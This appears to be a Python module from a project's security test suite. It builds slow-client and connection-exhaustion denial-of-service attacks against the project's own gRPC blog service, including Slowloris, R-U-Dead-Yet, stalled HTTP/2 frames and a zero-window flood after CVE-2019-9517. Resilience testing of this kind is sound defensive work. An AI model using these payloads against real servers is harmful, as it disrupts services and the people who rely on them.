"""Clients that begin and do not go on, and clients that do not take what they asked for."""

from tests.security.attacks import frames
from tests.security.attacks.crowd import hold
from tests.security.attacks.door import Door, Tally

__all__ = [
    "many_connections",
    "slow_body",
    "slow_body_http1",
    "slow_headers",
    "slow_headers_http1",
    "slow_preface",
    "zero_window",
]

CONNECTIONS = 300
MANY = 4500
LIST_POSTS = "/hamlet.blog.v1.PostReadingService/ListPosts"
_READERS, _STREAMS_EACH = 40, 3


def slow_preface(door: Door, seconds: float) -> Tally:
    """Five bytes of the preface, or of the TLS handshake, and no more."""
    words = b"\x16\x03\x01\x02\x00" if door.tls else frames.PREFACE[:5]
    return hold(door, seconds, words, CONNECTIONS, raw=True, over=_never)


def slow_headers(door: Door, seconds: float) -> Tally:
    """A HEADERS frame whose block is to be continued."""
    words = frames.hello() + frames.settings_ack()
    return hold(
        door,
        seconds,
        words + frames.headers(1, frames.grpc_headers(door), end_headers=False),
        CONNECTIONS,
        over=frames.ends_stream,
    )


def slow_body(door: Door, seconds: float) -> Tally:
    """A gRPC message of which only the length and a few bytes come."""
    words = frames.hello() + frames.settings_ack() + frames.headers(1, frames.grpc_headers(door))
    return hold(
        door,
        seconds,
        words + frames.data(1, frames.grpc_message(b"x" * 1000)[:20]),
        CONNECTIONS,
        over=frames.ends_stream,
    )


def slow_headers_http1(door: Door, seconds: float) -> Tally:
    """Slowloris: a request whose headers do not end."""
    return hold(door, seconds, b"GET /v1/posts HTTP/1.1\r\nHost: hamlet.example\r\nX-Slow: ", CONNECTIONS, over=bool)


def slow_body_http1(door: Door, seconds: float) -> Tally:
    """R-U-Dead-Yet: a body that is announced and does not come."""
    words = b"POST /v1/posts/%s/comments HTTP/1.1\r\nHost: hamlet.example\r\n" % b"0190b6a5-7c00-7000-8000-00000000dead"
    words += b'Content-Type: application/json\r\nContent-Length: 500000\r\n\r\n{"comment": '
    return hold(door, seconds, words, CONNECTIONS, over=bool)


def many_connections(door: Door, seconds: float) -> Tally:
    """More connections than a door has places for, each made and left alone."""
    return hold(door, seconds, b"", MANY, raw=True, over=_never)


def zero_window(door: Door, seconds: float) -> Tally:
    """CVE-2019-9517 and its like: large answers are asked for, and the window to send them is shut."""
    words = frames.hello({4: 0}) + frames.settings_ack()
    ask = frames.grpc_headers(door, LIST_POSTS)
    for stream in range(1, _STREAMS_EACH * 2, 2):
        words += frames.headers(stream, ask) + frames.data(stream, frames.grpc_message(b""), end_stream=True)
    return hold(door, seconds, words, _READERS)


def _never(heard: bytes) -> bool:
    return False
